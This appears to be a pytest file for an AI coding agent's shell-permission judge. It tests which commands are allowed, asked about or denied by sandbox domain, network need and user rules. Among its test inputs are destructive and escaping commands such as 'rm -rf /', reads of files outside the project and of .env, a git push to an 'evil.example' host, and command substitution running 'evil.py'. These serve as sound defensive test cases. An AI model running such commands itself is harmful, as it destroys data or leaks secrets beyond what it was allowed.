"""Where a command runs: what it needs of a sandbox, what leaves it, and who is asked."""

from __future__ import annotations

import sys

import pytest

from agent_tui.config import PermissionMode, PermissionsConfig
from agent_tui.tools.base import Intent
from agent_tui.tools.judge import shell
from tests.support.commands import World, held, judged
from tests.support.every import every
from tests.support.tool_context import permissions_of

pytestmark = pytest.mark.quick


@every(
    ("command", "domain", "network"),
    [
        ("rm -rf src", "work", False),
        ("echo x > notes.txt", "work", False),
        ("npm install", "work", True),
        ("pip install requests", "work", True),
        ("python -m pip install x", "work", True),
        ("curl -s https://example.org", "work", True),
        ("git push", "work", False),
        ("git push --repo=https://evil.example/x", "work", False),
        ("git push origin $(git branch --show-current)", "free", False),
        ("git config core.pager x", "free", False),
        ("gh pr list", "free", False),
        ("sudo ls", "free", False),
        ("ssh host", "free", False),
        ("cat ../outside/secret", "free", False),
        ("cp README.md ../outside", "free", False),
        ("ls; gh pr merge", "free", False),
        ("f() { rm -rf .; }; f", "work", False),
        ("find . -print0 | xargs -0 rm", "work", False),
        ("find . -type f -delete", "work", False),
    ],
)
def test_a_question_names_the_narrowest_domain_that_does(
    world: World, command: str, domain: str, network: bool
) -> None:
    decision = held(world, command, "ask")
    assert (decision.action, decision.domain, decision.network) == ("ask", domain, network)


@every(
    "command",
    [
        "pip install --no-index --find-links vendor x",
        "python -m pip install --no-index x",
        "npm install --offline",
        "cargo add --offline x",
    ],
)
def test_package_managers_that_are_told_to_stay_offline_need_no_network(world: World, command: str) -> None:
    assert held(world, command, "auto").action == "allow"
    assert not held(world, command, "ask").network
    assert held(world, f"{command} && curl https://example.org", "auto").network


def test_a_sandbox_lets_the_uncertain_be_looked_at(world: World) -> None:
    for command in ("cat $X", "find . | xargs cat", "env", "python --version", "npm --version", "cd src && git status"):
        assert (held(world, command, "ask").action, held(world, command, "ask").domain) == ("allow", "look"), command
    for command in ("python -c 1", "f() { ls; }; f", "$CMD"):
        assert (held(world, command, "plan").action, held(world, command, "plan").domain) == ("allow", "look"), command
    for command in ("sudo ls", "kill 1", "rm x"):
        deny = ["bash(rm *)"]
        assert held(world, command, "plan", deny=deny).action == "deny", command


@every(
    ("command", "allow", "mode", "action"),
    [
        ("python evil.py && gh pr list", "bash(gh pr list*)", "auto", "ask"),
        ("gh pr list; python -c 1", "bash(gh pr list*)", "accept-edits", "ask"),
        ("git push $(python evil.py)", "bash(git push*)", "auto", "ask"),
        ("python evil.py && git push", "bash(git push*)", "ask", "ask"),
        ("npm install && npm test", "bash(npm install*)", "auto", "ask"),
        ("git push 2>&1 | tail -5", "bash(git push*)", "auto", "allow"),
        ("python evil.py && git push", "bash(git push*)", "auto", "allow"),
        ("npm install", "bash(npm install*)", "auto", "allow"),
    ],
)
def test_what_a_rule_lets_out_of_the_sandbox_takes_nothing_along(
    world: World, command: str, allow: str, mode: PermissionMode, action: str
) -> None:
    decision = held(world, command, mode, allow=[allow])
    assert decision.action == action
    assert "git push" not in command or action == "ask" or decision.domain == "work", (
        "git alone leaves, by our own hand"
    )


@every(
    ("command", "mode", "rules", "action"),
    [
        ("npm test", "auto", {}, "ask"),
        ("npm test", "accept-edits", {"allow": ["bash(npm test *)"]}, "ask"),
        ("npm test", "ask", {"allow": ["outside(npm test *)"]}, "allow"),
        ("npm test; curl x.example", "auto", {"allow": ["outside(npm test *)"]}, "ask"),
        ("npm test", "auto", {"allow": ["outside(npm test *)"], "deny": ["bash(npm *)"]}, "deny"),
        ("f() { x; }; f", "auto", {}, "ask"),
        ("npm test", "plan", {"allow": ["outside(npm test *)"]}, "deny"),
    ],
)
def test_leaving_the_sandbox_is_asked_for_and_has_rules_of_its_own(
    world: World, command: str, mode: PermissionMode, rules: dict[str, list[str]], action: str
) -> None:
    permissions = permissions_of(world.root, PermissionsConfig(mode, **rules), holds=lambda domain: True, network="ask")
    decision = permissions.decide("bash", Intent("command", command, command=command, outside=True))
    assert decision.action == action
    if action != "deny":
        assert decision.domain == "free"
    if command == "npm test" and action == "ask":
        assert decision.patterns == ["outside(npm test *)"]


def test_a_rule_that_denies_wants_to_be_understood(world: World) -> None:
    for command, denied in (("f() { cat x; }; f", "deny"), ("tool $X", "ask")):
        assert held(world, command, "auto").action == "allow", command
        assert held(world, command, "auto", deny=["bash(cat *)"]).action == denied, command
        assert held(world, command, "auto", ask=["edit(src/**)"]).action == "ask", command


LOOKED_AT_FIRST = [
    *("pytest -q", "npm run build", "make test", "cargo build", "python -m http.server 8000", "curl -s localhost:8000"),
    *("python -c 1", "f() { ls; }; f", "$CMD", "./run.sh", "mypy src | tail", "cd src && python app.py", "cat $X"),
]


@every("command", LOOKED_AT_FIRST)
def test_ask_looks_first_where_nothing_is_known_to_change(world: World, command: str) -> None:
    first = held(world, command, "ask")
    assert (first.action, first.domain, first.network, first.patterns) == ("allow", "look", False, [])
    later = first.if_stopped
    assert later is not None and (later.action, later.domain, later.reason != "") == ("ask", "work", True)
    for mode in ("accept-edits", "auto"):
        assert held(world, command, mode).if_stopped is None
    assert judged(world, command, "ask").action == "ask"


@every("command", ["$CMD", "$CMD x", "ls; $(cat a)"])
@every("mode", ["accept-edits", "auto"])
def test_a_program_without_a_name_is_asked_about(world: World, mode: PermissionMode, command: str) -> None:
    assert held(world, command, mode).action == "ask"


@every("command", ["echo 'open", "ls; )", "cat <<A <<B\n1\nA\n2\nB", "cat " + "x" * 30_000])
def test_what_cannot_be_read_is_asked_about_in_every_mode(world: World, command: str) -> None:
    for judge in (held, judged):
        for mode in ("ask", "accept-edits", "auto"):
            assert judge(world, command, mode).action == "ask", mode
        assert judge(world, command, "plan").action == "deny"
        assert judge(world, command, "bypass").action == "allow"
        assert judge(world, command, "bypass", deny=["bash(rm *)"]).action == "ask"


def test_without_the_parser_everything_asks(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)
    shell.shell_parser.cache_clear()
    found = held(world, "ls", "auto")
    assert found.action == "ask" and "tree-sitter" in found.reason


def test_a_parser_of_another_version_is_none(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tree_sitter.Language", lambda: None)
    shell.shell_parser.cache_clear()
    assert held(world, "ls", "auto").action == "ask"


def test_the_questions_of_a_line_are_one(world: World) -> None:
    first = held(world, "pytest -q; mypy src; ls", "ask")
    assert first.if_stopped is not None
    assert first.if_stopped.patterns == ["bash(pytest *)", "bash(mypy *)"]
    assert first.if_stopped.reason == "runs pytest; runs mypy"
    asked = held(world, "mkdir x && pytest", "ask")
    assert (asked.action, asked.reason, asked.if_stopped) == ("ask", "runs mkdir; runs pytest", None)
    assert held(world, "pytest; python x.py", "ask", allow=["bash(pytest *)"]).if_stopped is not None
    assert held(world, "pytest; sudo ls", "ask").domain == "free"
    assert held(world, "pytest; mypy", "ask", deny=["bash(mypy*)"]).action == "deny"
    assert held(world, "pytest; mypy", "ask", ask=["bash(mypy*)"]).action == "ask"
    work = held(world, "pytest | tail", "ask", allow=["bash(pytest *)"])
    assert (work.action, work.domain, work.if_stopped) == ("allow", "work", None), "a rule needs no second try"


def test_where_nobody_can_be_asked_the_question_is_a_refusal_that_says_how(world: World) -> None:
    permissions = permissions_of(world.root, PermissionsConfig("ask"), can_ask=False, holds=lambda domain: True)
    intent = Intent("command", "make", command="make")
    question = permissions.decide("bash", intent).if_stopped
    assert question is not None
    later = permissions.put("bash", intent, question)
    assert later.action == "deny"
    assert "--allow 'bash(make)'" in later.message and "--permission-mode accept-edits" in later.message


@every("command", ["rm -rf $X", "f() { rm -rf .; }; f", "f() { sudo ls; }; f", "mv $A $B"])
def test_what_removes_or_leaves_is_asked_about_where_it_is_not_understood(world: World, command: str) -> None:
    assert held(world, command, "auto").action == "ask"


def test_bypass_knows_the_users_own_rules_alone(world: World) -> None:
    for command in ("rm -rf /", "f() { x; }; f", "sudo ls", "cat ../outside/secret", "echo x > .git/hooks/y"):
        decision = held(world, command, "bypass")
        assert (decision.action, decision.domain) == ("allow", "free")
    rules = {"deny": ["bash(sudo *)", "read(**/.env)"], "ask": ["bash(git push*)"]}
    for command, action in (("sudo ls", "deny"), ("ls; sudo ls", "deny"), ("cat .env", "deny"), ("git push", "ask")):
        assert held(world, command, "bypass", "ask", **rules).action == action, command
    assert held(world, "f() { sudo ls; }; f", "bypass", "ask", **rules).action == "deny"
    assert held(world, "f() { x $Y; }; f", "bypass", "ask", **rules).action == "ask"


def test_git_leaves_the_sandbox_only_where_the_folder_is_trusted(world: World) -> None:
    for allow in ([], ["bash(git push*)"]):
        decision = held(world, "git push", "auto", trusted=lambda: False, allow=allow)
        assert decision.action == "deny" and "/trust" in decision.message
    assert held(world, "git commit -m x", "auto", trusted=lambda: False).domain == "work"
    assert held(world, "git push", "auto", allow=["bash(git push*)"]).action == "allow"
    # Where nothing holds it, only looking goes unasked.
    assert judged(world, "git commit -m x", "auto", trusted=lambda: False).action == "ask"
    assert judged(world, "git status", "ask", trusted=lambda: False).action == "allow"
